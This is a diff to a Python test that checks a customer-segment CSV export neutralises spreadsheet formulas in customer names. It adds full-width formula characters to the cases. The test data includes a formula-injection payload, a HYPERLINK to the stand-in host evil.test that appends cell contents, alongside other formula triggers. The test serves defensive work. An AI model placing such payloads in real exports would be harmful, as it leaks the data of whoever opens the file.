@@ -95,7 +95,10 @@ def test_a_segment_csv_never_hands_a_spreadsheet_a_formula(manager_client):
     """A customer's name comes from the order system (the customer chose it): one written as a formula must reach
     the manager's spreadsheet as the text it is, not run when the file is opened."""
     store, client = manager_client
-    names = ['=HYPERLINK("http://evil.test/?"&A2,"查看")', "+86 138", "-1+1", "@SUM(A1)", "\t=1+1"]
+    names = ['=HYPERLINK("http://evil.test/?"&A2,"查看")', "+86 138", "-1+1", "@SUM(A1)", "\t=1+1",
+             # Full-width, as a Chinese or Japanese input method types them: East Asian Excel reads these as
+             # formulas too (OWASP/www-community#1088).
+             '＝HYPERLINK("http://evil.test/?"&A2,"查看")', "＋86 138", "－1+1", "＠SUM(A1)"]  # fmt: skip
     for name in names:
         customer_with_orders(store, [30], name=name)
     segment = everyone(store)
